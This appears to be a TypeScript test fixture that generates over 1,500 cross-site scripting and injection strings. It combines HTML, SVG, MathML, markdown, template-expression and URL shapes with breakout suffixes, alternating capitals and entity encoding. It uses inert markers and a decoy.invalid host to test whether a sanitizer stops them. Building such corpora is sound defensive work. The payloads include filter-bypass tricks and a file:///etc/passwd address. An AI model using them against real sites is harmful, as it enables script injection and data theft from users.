// Strings that run something, or fetch something, wherever a text is taken for markup, an attribute, a style or an address.
// Each is a shape with a place in it; what stands there marks the element it would make, and asks a host nobody may ask.

/** Sets a property of the window, or asks this host: neither may happen. */
const runs = ['window.struck=1', "fetch('//decoy.invalid')", 'import`//decoy.invalid`'];

const elements = [
  '<script>RUN</script>',
  '<ScRiPt/x>RUN</sCrIpT >',
  '<script src=//decoy.invalid></script>',
  '<img src=x onerror=RUN>',
  '<img/src=x/onerror=RUN//',
  '<img src="//decoy.invalid/p.png">',
  '<img srcset="//decoy.invalid/p.png 2x">',
  '<svg onload=RUN>',
  '<svg><script>RUN</script></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<svg><use href="//decoy.invalid/#x"></use></svg>',
  '<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=RUN>',
  '<math href="javascript:RUN">x</math>',
  '<iframe srcdoc="<script>RUN</script>"></iframe>',
  '<iframe src="javascript:RUN"></iframe>',
  '<object data="data:text/html,<script>RUN</script>"></object>',
  '<embed src=//decoy.invalid>',
  '<link rel=stylesheet href=//decoy.invalid/a.css>',
  '<link rel=prefetch href=//decoy.invalid>',
  '<style>@import"//decoy.invalid/a.css"</style>',
  '<style>*{background:url(//decoy.invalid)}</style>',
  '<p style="background:url(//decoy.invalid)">x</p>',
  '<p style="x:expression(RUN)">x</p>',
  '<base href=//decoy.invalid/>',
  '<meta http-equiv=refresh content="0;url=//decoy.invalid">',
  '<form action=//decoy.invalid><button formaction="javascript:RUN">x</button></form>',
  '<input autofocus onfocus=RUN>',
  '<select autofocus onfocus=RUN>',
  '<details open ontoggle=RUN><summary>x</summary></details>',
  '<video><source onerror=RUN></video>',
  '<video src=//decoy.invalid autoplay></video>',
  '<audio src=x onerror=RUN>',
  '<marquee onstart=RUN>x</marquee>',
  '<body onload=RUN>',
  '<a href="javascript:RUN">x</a>',
  '<a href=java&#115;cript:RUN>x</a>',
  '<a href="\u0001javascript:RUN">x</a>',
  '<a href="data:text/html,<script>RUN</script>">x</a>',
  '<a href=x onmouseover=RUN>x</a>',
  '<a ping=//decoy.invalid href=https://example.com>x</a>',
  '<template><script>RUN</script></template>',
  '<template shadowrootmode=open><img src=x onerror=RUN></template>',
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<xmp><img src=x onerror=RUN></xmp>',
  '<textarea></textarea><img src=x onerror=RUN>',
  '<title></title><img src=x onerror=RUN>',
  '<!--><img src=x onerror=RUN>-->',
  '<!-- --!><img src=x onerror=RUN> -->',
  '<![CDATA[<img src=x onerror=RUN>]]>',
  '<?xml version="1.0"?><img src=x onerror=RUN>',
  '<custom-element onclick=RUN>x</custom-element>',
  '<dialog open onclose=RUN>x</dialog>',
  '<button popovertarget=x onclick=RUN>x</button>',
  '<frameset onload=RUN>',
  '<isindex type=image src=1 onerror=RUN>',
  '<table background=//decoy.invalid><tr><td>x',
  '<li style=list-style:url(//decoy.invalid)>x</li>',
] as const;

const markdowns = [
  '[x](javascript:RUN)',
  '[x](<javascript:RUN>)',
  '[x](JaVaScRiPt&colon;RUN)',
  '[x](data:text/html,<script>RUN</script>)',
  '![x](//decoy.invalid/p.png)',
  '![x](https://decoy.invalid/p.png "onerror=RUN)',
  '[![x](x "onerror=RUN)](javascript:RUN)',
  '[x]: javascript:RUN\n\n[x]',
  '<javascript:RUN>',
  '`<img src=x onerror=RUN>`',
  '```html\n<img src=x onerror=RUN>\n```',
  '> <img src=x onerror=RUN>',
  '- [ ] <img src=x onerror=RUN>',
  '<div\n\nonclick=RUN>\n\n**x**</div>',
  '[a](b"onmouseover=RUN)',
] as const;

const expressions = [
  '{{constructor.constructor("RUN")()}}',
  '${RUN}',
  '#{RUN}',
  '<%= RUN %>',
  '{%RUN%}',
  '[[RUN]]',
  '@{RUN}',
];
const addresses = [
  'javascript:RUN',
  'JaVaScRiPt:RUN',
  'java\tscript:RUN',
  'data:text/html,<script>RUN</script>',
  'vbscript:RUN',
  '//decoy.invalid',
  'file:///etc/passwd',
  'https://decoy.invalid@example.com/',
];

/** Ways out of where a string may have been put. */
const exits = [
  '',
  '">',
  "'>",
  '--></style></script></title></textarea>',
  '\\">',
  '&lt;/p&gt;',
  ']]>',
  '\u0000',
  '\u2028',
];

/** 1,500 strings and more: every shape with every way out, and each thing to run in turn. */
export const scripts: readonly string[] = [
  ...new Set(
    [...elements, ...markdowns, ...expressions, ...addresses].flatMap((shape, index) => {
      const first = shape.replaceAll('RUN', runs[0] ?? '');
      const struck = exits.map(
        (exit, turn) => exit + shape.replaceAll('RUN', runs[(index + turn) % runs.length] ?? ''),
      );
      return [...struck, ...struck.map(recased), first + first, entities(first)];
    }),
  ),
];

/** Every other letter as a capital: markup knows no difference, and a filter may. */
function recased(text: string): string {
  return [...text].map((letter, index) => (index % 2 === 0 ? letter.toUpperCase() : letter)).join('');
}

/** Markup that only becomes markup if somebody decodes it once too often. */
function entities(text: string): string {
  return text.replace(/[<>"'&]/g, (character) => `&#${character.charCodeAt(0)};`);
}
